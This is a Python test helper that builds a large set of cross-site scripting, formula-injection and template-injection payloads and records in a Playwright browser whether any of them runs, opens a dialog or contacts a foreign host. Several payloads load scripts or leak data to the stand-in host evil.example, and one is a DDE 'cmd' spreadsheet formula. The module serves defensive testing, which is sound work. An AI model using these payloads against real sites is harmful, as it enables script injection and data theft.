"""Text that wants to be more than text: payloads made here, and what hears when one of them runs.

Each calls `planted(number)` or opens a dialog or asks a foreign host; none may. They are short, so
that a field of 200 characters holds one, and several of them fit into a longer one.
"""

# ruff: noqa: E501, Q003 - payloads stand as they are

from collections.abc import Iterator
from dataclasses import dataclass, field
from itertools import chain, cycle, islice
from urllib.parse import urlsplit

from playwright.sync_api import BrowserContext, Dialog, Page, Request

FOREIGN = "evil.example"
_TAGS = (
    "img src=x", "svg", "body", "video src=x", "audio src=x", "iframe", "input autofocus",
    "details open", "marquee", "select autofocus", "textarea autofocus", "object data=x",
    "embed src=x", "link rel=stylesheet href=x", "style", "button autofocus", "a href=x", "form",
    "math", "custom-element tabindex=1", "video><source", "image src=x", "dialog open", "p",
)  # fmt: skip
_HANDLERS = (
    "onerror", "onload", "onfocus", "ontoggle", "onmouseover", "onpageshow", "onbegin", "onstart",
    "onanimationstart", "onpointerenter", "onscroll", "onbeforeinput",
)  # fmt: skip
_BREAKOUTS = (
    '" {}="{}" x="', "' {}='{}' x='", "` {}=`{}` x=`", '">{}', "'>{}", "</title>{}", "</textarea>{}",
    "</style>{}", "</noscript>{}", "-->{}", "]]>{}", "</option></select>{}", "</template>{}",
)  # fmt: skip
_LINKS = (
    "javascript:{}", "JaVaScRiPt:{}", "java\tscript:{}", "java&#9;script:{}", "\x01javascript:{}",
    " javascript:{}", "javascript&colon;{}", "javascript://%0a{}", "vbscript:{}",
    "data:text/html,<script>{}</script>", "data:image/svg+xml,<svg onload={}>",
    f"//{FOREIGN}/{{}}.png", f"https://{FOREIGN}/?{{}}", f"\\\\{FOREIGN}\\{{}}", "blob:{}",
    "view-source:{}", "jar:{}", "feed:javascript:{}", "livescript:{}", "about:blank#{}",
)  # fmt: skip
_VECTORS = (
    "<svg><script>{}</script>", "<svg><animate onbegin={} attributeName=x dur=1s>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload={}>#x'>", "<svg><a href=javascript:{}>x</a>",
    "<svg><foreignObject><img src=x onerror={}>", "<math href=javascript:{}>x</math>",
    "<math><maction actiontype=statusline xlink:href=javascript:{}>x", "<svg><set onbegin={}>",
    "<svg><image href=x onerror={}>", "<math><annotation-xml encoding=text/html><img src=x onerror={}>",
    f"<svg><style>@import '//{FOREIGN}/{{}}'</style>", f"<svg><image href=//{FOREIGN}/{{}}>",
)  # fmt: skip
_SCRIPTS = (
    "</script><script>{}</script>", "<!--<script>{}</script>", "\u2028{}//", "\u2029{}//", '";{};//',
    "';{};//", "`;{};//", '"}}]}};{};//', "\\u003cscript\\u003e{}", "\\x3cscript\\x3e{}",
    "<script type=module>{}</script>", f"<script src=//{FOREIGN}/{{}}.js></script>",
    '\\"-{}-\\"', "*/{}/*", "${{{}}}", "`-{}-`", "${{`${{{}}}`}}", "<?xml-stylesheet href=javascript:{}?>",
    "__proto__.x={}", "constructor.constructor('{}')()", "eval('{}')", "import('data:,{}')",
)  # fmt: skip
_ENTITIES = (
    "&lt;img src=x onerror={}&gt;", "&#60;img src=x onerror={}&#62;", "&#x3c;script&#x3e;{}",
    "&amp;lt;script&amp;gt;{}", "%3Cscript%3E{}%3C/script%3E", "＜script＞{}＜/script＞", "&quot; onload={}",
    "&NewLine;javascript&colon;{}", "+ADw-script+AD4-{}", "\u00bcscript\u00be{}",
)  # fmt: skip
_BIDI = (
    "<im\0g src=x onerror={}>", "<\0script>{}</script>",
    "\u202e<img src=x onerror={}>", "\u2066<svg onload={}>\u2069", "\u200b<script>{}</script>",
    "<\u200dimg src=x onerror={}>", "<img\u00a0src=x\u00a0onerror={}>", "\ufeff<svg onload={}>",
    "\u0301<img src=x onerror={}>", "\U000e003cscript\U000e003e{}",
)  # fmt: skip
_MUTATIONS = (
    '<noscript><p title="</noscript><img src=x onerror={}>">', "<svg></p><style><a id='</style><img src=x onerror={}>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror={}&gt;'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={}>",
    "<table><td><svg><desc><td><img src=x onerror={}>", "<listing>&lt;img src=x onerror={}&gt;</listing>",
    "<xmp><img alt='</xmp><img src=x onerror={}>'>", "<template><svg onload={}></template>",
    "<select><iframe><select><img src=x onerror={}>", "<a id=x><a id=x name=y href='cid:{}'>",
    "<img name=currentScript><form id=consent-root onclick={}>", "<base href=//evil.example/{}>",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>", "<iframe srcdoc='<script>{}</script>'>",
    "<div style=background:url(//evil.example/{})>", "<style>*{{background:url(//evil.example/{})}}</style>",
)  # fmt: skip
_FORMULAS = (
    "={}", "+{}", "-{}", "@{}", '=HYPERLINK("https://evil.example/{}","x")', "=cmd|' /C calc'!{}",
    "＝{}", "＋{}", "－{}", "＠{}", '"={}', "=1+1;{}", "=IMPORTXML(\"//evil.example/{}\",1)", "%0A={}",
)  # fmt: skip
_LANGUAGES = (
    "{{{{ {} }}}}", "{{% raw %}}{}", "{{{{ self.__init__.__globals__ }}}}{}", "%(x)s{}", "%s%n%{}",
    "%%(x)s{}", "{{0.__class__}}{}", "{{x}}{}", "#{{{}}}", "<%= {} %>", "<?php {} ?>", "[[{}]]",
    "{{{{constructor.constructor('{}')()}}}}", "{{{{#with x}}}}{}", "$({})", "`{}`", "${{jndi:x/{}}}",
    "{{% include '{}' %}}", "%(seconds)s{}", "{{number}}{}",
)  # fmt: skip


def _families() -> tuple[Iterator[str], ...]:
    tags = (f"<{tag} {handler}={{}}>" for handler in _HANDLERS for tag in _TAGS)
    inside = ("onmouseover", "onfocus", "onload", "onclick")
    breakouts = (
        each.replace("{}", handler, 1) if each.count("{}") == 2 else each.replace("{}", full)
        for full, handler in zip(
            ("<img src=x onerror={}>", "<svg onload={}>", "<script>{}</script>", "<p onclick={}>"),
            inside,
            strict=True,
        )
        for each in _BREAKOUTS
    )
    fixed = (
        _LINKS, _VECTORS, _SCRIPTS, _ENTITIES, _BIDI, _MUTATIONS, _FORMULAS, _LANGUAGES,
    )  # fmt: skip
    return (tags, breakouts, *map(cycle, fixed))


def payloads(count: int = 500) -> list[str]:
    """Return that many different payloads, of every family in turn."""
    found: dict[str, None] = {}
    turns = chain.from_iterable(islice(zip(*_as_cycles(), strict=False), 10 * count))
    for number, shape in enumerate(turns):
        call = f"planted({number})" if number % 5 else f"alert({number})"
        found.setdefault(_filled(shape, call))
        if len(found) == count:
            return list(found)
    raise AssertionError(f"only {len(found)} payloads")


def _as_cycles() -> tuple[Iterator[str], ...]:
    return tuple(map(cycle, (list(islice(each, 300)) for each in _families())))


def _filled(shape: str, call: str) -> str:
    # Not `format`: what looks like a template is meant so.
    return shape.replace("{}", call).replace("{{", "{").replace("}}", "}")


@dataclass
class Heard:
    """What a browser did that no text may bring about."""

    hosts: frozenset[str]
    ran: list[str] = field(default_factory=list)
    dialogs: list[str] = field(default_factory=list)
    reports: list[str] = field(default_factory=list)
    foreign: list[str] = field(default_factory=list)

    def all(self) -> dict[str, list[str]]:
        """Return it by kind, where there is any."""
        found = {
            "ran": self.ran,
            "dialogs": self.dialogs,
            "reports": self.reports,
            "foreign": self.foreign,
        }
        return {kind: each for kind, each in found.items() if each}


_LISTEN = """
addEventListener('securitypolicyviolation', (event) =>
  reported(`${location.href} ${event.violatedDirective} ${event.blockedURI} ${event.sample}`))
"""


def listen(context: BrowserContext, *hosts: str) -> Heard:
    """Hear what runs in a browser's pages, and whom it asks besides these hosts."""
    heard = Heard(frozenset(hosts))

    def dialog(opened: Dialog) -> None:
        heard.dialogs.append(f"{opened.type}: {opened.message}")
        opened.dismiss()

    def asked(request: Request) -> None:
        parts = urlsplit(request.url)
        if parts.scheme in {"http", "https", "ws", "wss"} and parts.netloc not in heard.hosts:
            heard.foreign.append(f"{request.url[:200]} from {request.frame.url[:100]}")

    context.on("dialog", dialog)
    context.on("request", asked)
    context.expose_function("planted", lambda *said: heard.ran.append(str(said)))
    context.expose_function("reported", lambda said: heard.reports.append(str(said)))
    context.add_init_script(_LISTEN)
    return heard


# All text of a page as somebody reads it, and what its fields hold.
READ = """() => [document.documentElement, ...document.querySelectorAll('*')].map((each) =>
  [each === document.documentElement ? each.textContent : '', each.value ?? '',
   each.title ?? '', each.alt ?? '', each.getAttribute?.('aria-label') ?? '',
   each.placeholder ?? '', each.label ?? ''].join('\\n')).join('\\n')"""


def marked(name: str, payload: str) -> str:
    """Return what is written into a field: the payload first, then which field it is."""
    return f"{payload} ·{name}"


def read(page: Page) -> str:
    """Return all text of a page, as `plain`."""
    return plain(page.evaluate(READ))


def plain(text: str) -> str:
    """Return a text as a page shows it: blanks are one blank, what nothing shows is left out."""
    shown = (each for each in text if each.isspace() or (each >= " " and each != "\ufffd"))
    return " ".join("".join(shown).split())
